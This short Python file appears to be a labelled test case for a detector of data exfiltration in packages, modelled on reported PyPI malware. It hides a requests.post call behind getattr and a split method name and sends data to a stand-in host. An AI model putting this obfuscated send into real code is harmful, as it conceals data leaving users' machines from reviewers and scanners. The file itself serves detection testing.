# expect: data-out
# source: PyPI malware reports (Phylum, Checkmarx)
# technique: requests.post reached through getattr with a concatenated method name
import requests

send = getattr(requests, "po" + "st")
send("https://collect.example.net/ingest", data={"note": "build finished"})
